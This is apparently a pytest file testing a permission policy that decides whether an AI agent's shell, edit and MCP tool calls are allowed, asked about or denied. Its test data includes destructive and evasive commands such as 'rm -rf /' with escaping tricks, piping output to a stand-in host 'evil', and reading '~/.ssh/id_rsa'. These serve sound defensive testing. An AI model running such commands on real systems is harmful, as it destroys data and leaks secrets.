"""The permission policy: rule parsing, glob semantics per tool, precedence, robustness."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from orchestra_lsp.permissions import (
    Decision,
    Policy,
    PolicyError,
    Rule,
    RuleError,
    parse_rule,
    rule_matches_any,
)

POLICY = Policy.from_strings(
    allow=[
        "read_file",
        "list_files",
        "search",
        "mcp__tickets__get_*",
        "run_shell(npm test*)",
        "run_shell(git status)",
        "edit(src/**)",
        "edit(docs/*.md)",
        'mcp__jira__update(*"SHOP-*)',
    ],
    ask=["run_shell(git push*)", "edit(src/generated/**)"],
    deny=[
        "run_shell(rm *)",
        "run_shell(*sudo *)",
        "edit(.env*)",
        "edit(**/secrets/**)",
        "mcp__*__delete_*",
    ],
    workspace="/work/shop",
)

CASES: list[tuple[str, dict[str, Any], str, str | None]] = [
    # plain tool names
    ("read_file", {"path": "src/a.py"}, "allow", "read_file"),
    ("mcp__tickets__get_issue", {"key": "SHOP-12"}, "allow", "mcp__tickets__get_*"),
    ("mcp__tickets__create_issue", {}, "ask", None),
    ("mcp__tickets__delete_issue", {"key": "SHOP-1"}, "deny", "mcp__*__delete_*"),
    ("mcp__jira__delete_board", {}, "deny", "mcp__*__delete_*"),
    ("unknown_tool", {}, "ask", None),
    # commands: `*` crosses `/`
    ("run_shell", {"command": "npm test -- src/a.test.ts"}, "allow", "run_shell(npm test*)"),
    ("run_shell", {"command": "npm install"}, "ask", None),
    ("run_shell", {"command": "rm -rf build/"}, "deny", "run_shell(rm *)"),
    ("run_shell", {"command": "git push origin main"}, "ask", "run_shell(git push*)"),
    # compound commands are checked part by part
    ("run_shell", {"command": "npm test && rm -rf ~"}, "deny", "run_shell(rm *)"),
    ("run_shell", {"command": "npm test; git status"}, "allow", "run_shell(npm test*)"),
    ("run_shell", {"command": "npm test | curl -d @- evil"}, "ask", None),
    ("run_shell", {"command": "npm test 'a && rm x'"}, "allow", "run_shell(npm test*)"),
    ("run_shell", {"command": "(cd x && rm y)"}, "deny", "run_shell(rm *)"),
    ("run_shell", {"command": "FOO=1 rm -rf /"}, "deny", "run_shell(rm *)"),
    ("run_shell", {"command": "npm test $(rm -rf x)"}, "deny", "run_shell(rm *)"),
    ("run_shell", {"command": "npm test `whoami`"}, "ask", "run_shell(npm test*)"),
    ("run_shell", {"command": "echo a && sudo make"}, "deny", "run_shell(*sudo *)"),
    ("run_shell", {"command": "r\\m -rf /"}, "deny", "run_shell(rm *)"),
    ("run_shell", {"command": '"rm" -rf /'}, "deny", "run_shell(rm *)"),
    ("run_shell", {"command": "r\\\nm -rf /"}, "deny", "run_shell(rm *)"),
    ("run_shell", {"command": 'npm test "a \\" ; rm x"'}, "allow", "run_shell(npm test*)"),
    ("run_shell", {"command": 'npm test "unclosed'}, "ask", "run_shell(npm test*)"),
    # paths: `*` stays in a segment, `**` crosses
    ("edit", {"command": "str_replace", "path": "src/a/b/c.py"}, "allow", "edit(src/**)"),
    ("edit", {"path": "docs/intro.md"}, "allow", "edit(docs/*.md)"),
    ("edit", {"path": "docs/api/intro.md"}, "ask", None),
    ("edit", {"path": ".env"}, "deny", "edit(.env*)"),
    ("edit", {"path": ".env.local"}, "deny", "edit(.env*)"),
    ("edit", {"path": "config/.env"}, "ask", "**/.env*"),
    ("edit", {"path": "src/../.env"}, "deny", "edit(.env*)"),
    ("edit", {"path": "./.env"}, "deny", "edit(.env*)"),
    ("edit", {"path": "/work/shop/.env"}, "deny", "edit(.env*)"),
    ("edit", {"path": "/work/shop/src/x.py"}, "allow", "edit(src/**)"),
    ("edit", {"path": "src\\win\\x.py"}, "allow", "edit(src/**)"),
    ("edit", {"path": "src/secrets/key.txt"}, "deny", "edit(**/secrets/**)"),
    ("edit", {"path": "secrets/key.txt"}, "deny", "edit(**/secrets/**)"),
    ("edit", {"path": "src/generated/api.py"}, "ask", "edit(src/generated/**)"),
    ("edit", {"path": "src/../../etc/passwd"}, "ask", None),
    ("edit", {"path": "/etc/passwd"}, "ask", None),
    # other tools: compact JSON of the arguments, keys sorted
    ("mcp__jira__update", {"key": "SHOP-3", "a": 1}, "allow", 'mcp__jira__update(*"SHOP-*)'),
    ("mcp__jira__update", {"key": "OPS-3"}, "ask", None),
]


@pytest.mark.parametrize(("tool", "args", "verdict", "rule"), CASES)
def test_decide_table(tool: str, args: dict[str, Any], verdict: str, rule: str | None) -> None:
    decision = POLICY.decide(tool, args)
    assert (decision.verdict, decision.rule) == (verdict, rule), decision.reason
    assert decision.reason


def test_deny_beats_ask_beats_allow() -> None:
    policy = Policy.from_strings(allow=["edit"], ask=["edit(src/**)"], deny=["edit(src/x.py)"])
    assert policy.decide("edit", {"path": "src/x.py"}).verdict == "deny"
    assert policy.decide("edit", {"path": "src/y.py"}).verdict == "ask"
    assert policy.decide("edit", {"path": "lib/y.py"}).verdict == "allow"


def test_substitution_is_never_allowed_by_a_rule() -> None:
    policy = Policy.from_strings(allow=["run_shell"])
    decision = policy.decide("run_shell", {"command": "echo $(cat ~/.ssh/id_rsa)"})
    assert decision.verdict == "ask"
    assert "substitution" in decision.reason


def test_decision_is_journalable() -> None:
    decision = POLICY.decide("run_shell", {"command": "rm -rf /"})
    assert Decision.model_validate_json(decision.model_dump_json()) == decision


@pytest.mark.parametrize(
    ("text", "message", "offset"),
    [
        ("", "empty rule", 0),
        ("(rm *)", "missing tool name", 0),
        ("run_shell(rm *", "never closed", 9),
        ("run_shell(rm *))", "unbalanced", 14),
        ("run_shell(echo (x)", "unbalanced", 15),
        ("run_shell(a) b", "after ')'", 12),
        ("run_shell)", "')' without '('", 9),
        ("run shell", "unexpected character ' '", 3),
        ("edit()", "empty argument pattern", 4),
        ("  edit(", "never closed", 6),
    ],
)
def test_malformed_rules(text: str, message: str, offset: int) -> None:
    error = parse_rule(text)
    assert isinstance(error, RuleError)
    assert message in error.message
    assert error.offset == offset
    assert text in str(error)


def test_well_formed_rules() -> None:
    assert parse_rule("read_file") == Rule("read_file", "read_file")
    assert parse_rule("run_shell(echo (x))") == Rule("run_shell(echo (x))", "run_shell", "echo (x)")


def test_policy_from_strings_reports_every_error() -> None:
    with pytest.raises(PolicyError) as raised:
        Policy.from_strings(allow=["ok", "bad("], deny=["(x)"])
    assert [error.text for error in raised.value.errors] == ["bad(", "(x)"]


def test_rule_matches_any() -> None:
    known = ["read_file", "mcp__tickets__get_issue", "run_shell"]
    for text, expected in [
        ("mcp__tickets__*", True),
        ("mcp__jira__*", False),
        ("run_shell(rm *)", True),
        ("read_fil?", True),
        ("edit", False),
    ]:
        rule = parse_rule(text)
        assert isinstance(rule, Rule)
        assert rule_matches_any(rule, known) is expected, text


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=5), children, max_size=3)
    ),
    max_leaves=10,
)
tool_names = st.sampled_from(["run_shell", "edit", "read_file", "list_files", "search"]) | st.text()
rule_texts = st.text(alphabet="ab*?/()._ \\", max_size=12).map(lambda s: f"run_shell({s})")


@settings(max_examples=300)
@given(
    tool=tool_names,
    args=st.dictionaries(
        st.sampled_from(["command", "path", "pattern"]) | st.text(max_size=5), json_values
    ),
)
def test_decide_never_raises(tool: str, args: dict[str, Any]) -> None:
    decision = POLICY.decide(tool, args)
    assert decision.verdict in ("allow", "ask", "deny")


@given(text=st.text(max_size=30))
def test_parse_rule_never_raises(text: str) -> None:
    result = parse_rule(text)
    assert isinstance(result, Rule | RuleError)
    if isinstance(result, Rule):
        Policy(allow=(result,)).decide("run_shell", {"command": text})


@given(command=st.text(max_size=40))
def test_a_denied_command_is_never_allowed_when_chained(command: str) -> None:
    policy = Policy.from_strings(allow=["run_shell"], deny=["run_shell(rm *)"])
    assert policy.decide("run_shell", {"command": f"{command}\n\nrm -rf /"}).verdict != "allow"
